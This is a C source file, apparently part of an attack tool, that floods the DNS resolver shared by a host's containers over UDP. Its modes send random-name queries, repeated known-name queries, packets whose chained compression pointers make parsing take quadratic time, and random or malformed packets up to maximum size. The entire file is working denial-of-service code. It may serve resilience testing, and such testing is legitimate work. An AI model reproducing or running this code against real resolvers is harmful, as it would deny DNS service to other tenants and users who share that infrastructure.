/* DNS over UDP, to the resolver that every container of the host shares. Answers are not read. */
#include <string.h>
#include <unistd.h>

#include "attack.h"

enum { HEADER = 12, LARGEST = 65507, PER_SOCKET = 256 };

/* Writes a message of `turn`'s kind; returns its length. */
typedef size_t writer(uint8_t *message, unsigned long turn, const char *name);

static unsigned long ask(writer *write, const char *name) {
  static uint8_t message[65536];
  struct place to = resolver();
  unsigned long struck = 0;
  while (attacking()) {
    int udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (udp < 0) fail("a UDP socket");
    if (connect(udp, (struct sockaddr *)&to.address, to.length)) fail("the resolver");
    for (int i = 0; i < PER_SOCKET && attacking(); i++) struck += send(udp, message, write(message, struck, name), 0) > 0;
    close(udp);
  }
  return struck;
}

static size_t unknown(uint8_t *message, unsigned long turn, const char *name) {
  (void)turn, (void)name;
  char invented[16];
  invent_name(invented);
  return write_question(message, invented);
}

static size_t known(uint8_t *message, unsigned long turn, const char *name) {
  (void)turn;
  return write_question(message, name);
}

static size_t put16(uint8_t *message, size_t at, unsigned value) {
  message[at] = value >> 8;
  message[at + 1] = value;
  return at + 2;
}

/*
 * Each record's name points to the one before, so that reading all of them takes the square of their number: with
 * labels on the way or without, as questions, answers, authorities or additional records, and by turns as many records
 * as the header says, and fewer.
 */
static size_t ladder(uint8_t *message, unsigned long turn, const char *name) {
  (void)name;
  /* Type NULL, class IN; records have a time to live and, here, no data. */
  static const uint8_t REST[] = {0, 10, 0, 1, 0, 0, 0, 0, 0, 0};
  unsigned section = turn % 4, labels = turn / 4 % 2, fewer = turn / 8 % 2;
  unsigned rung = HEADER, height = 0, records = 0;
  size_t at = write_question(message, "a"), rest = section == 0 ? 4 : sizeof REST;
  for (; at + 16 < LARGEST; records++) {
    unsigned here = at;
    if (labels) message[at++] = 1, message[at++] = 'a';
    at = put16(message, at, 0xc000 | rung);
    memcpy(message + at, REST, rest);
    at += rest;
    /* A pointer has 14 bits; a name may have 127 labels. */
    if (here < 0x4000 && (!labels || height < 120)) rung = here, height++;
  }
  /* The question that stands first is one of the questions. */
  put16(message, 4 + 2 * section, fewer ? 0xffff : records + (section == 0));
  return at;
}

/* Of every size: noise, and noise behind a header that promises it to be sense. */
static size_t garbage(uint8_t *message, unsigned long turn, const char *name) {
  (void)name;
  size_t length = turn % 64 ? 1 + dice() % 600 : LARGEST;
  fill_randomly(message, length);
  if (turn % 2 && length > HEADER) {
    memset(message + 2, 0, HEADER - 2);
    message[5] = dice() % 3;
    message[4 + 2 * (dice() % 4)] = dice();
  }
  return length;
}

unsigned long ask_unknown(char **arguments) { return ask(unknown, arguments[0]); }
unsigned long ask_known(char **arguments) { return ask(known, arguments[0]); }
unsigned long ask_ladders(char **arguments) { return ask(ladder, arguments[0]); }
unsigned long ask_garbage(char **arguments) { return ask(garbage, arguments[0]); }
